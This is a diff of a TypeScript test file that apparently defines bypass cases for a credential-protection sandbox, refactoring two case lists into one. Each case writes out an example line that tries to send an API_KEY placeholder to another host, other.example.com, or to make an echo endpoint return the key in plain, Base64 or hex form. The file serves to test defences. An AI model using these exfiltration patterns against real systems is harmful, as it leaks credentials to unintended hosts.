@@ -1,10 +1,15 @@
 import type { BypassCase } from '../bypass-case.ts'
-import { onSocket } from '../represented.ts'
 
 const key = "os.environ['API_KEY']"
 const elsewhere = { blocked: 'API_KEY' }
 
-const sent: readonly BypassCase[] = [
+const cases: readonly BypassCase[] = [
+  {
+    tried: 'a placeholder sent to another declared host, in a header',
+    attack: `get('other.example.com', '/', {'authorization': 'Bearer ' + ${key}})`,
+    isAlone: true,
+    ends: elsewhere,
+  },
   { tried: 'the same in the path', attack: `get('other.example.com', '/' + ${key})`, ends: elsewhere },
   { tried: 'the same in a body', attack: `get('other.example.com', '/', {}, ${key})`, ends: elsewhere },
   {
@@ -14,9 +19,13 @@ const sent: readonly BypassCase[] = [
       report = get('other.example.com', '/', {'authorization': 'Basic ' + base64.b64encode(('me:' + ${key}).encode()).decode()})`,
     ends: elsewhere,
   },
-]
-
-const obtained: readonly BypassCase[] = [
+  {
+    tried: 'the provider sends the credential back',
+    attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
+    provider: ['/api/echo'],
+    isAlone: true,
+    ends: { reports: 'the placeholder' },
+  },
   {
     tried: 'the provider sends the credential back in Base64, and in hex',
     attack: `
@@ -44,21 +53,5 @@ const obtained: readonly BypassCase[] = [
   },
 ]
 
-/** Ways to obtain a credential's value, or to send its placeholder to the wrong host. */
-export const credentials: readonly BypassCase[] = [
-  {
-    tried: 'a placeholder sent to another declared host, in a header',
-    attack: `get('other.example.com', '/', {'authorization': 'Bearer ' + ${key}})`,
-    isAlone: true,
-    ends: elsewhere,
-  },
-  ...sent.map(onSocket),
-  {
-    tried: 'the provider sends the credential back',
-    attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
-    provider: ['/api/echo'],
-    isAlone: true,
-    ends: { reports: 'the placeholder' },
-  },
-  ...obtained.map(onSocket),
-]
+/** Ways to obtain a credential's value, or to send its placeholder to the wrong host. No mode can influence them. */
+export const credentials: readonly BypassCase[] = cases.map((one) => ({ ...one, modes: ['socket'] }))
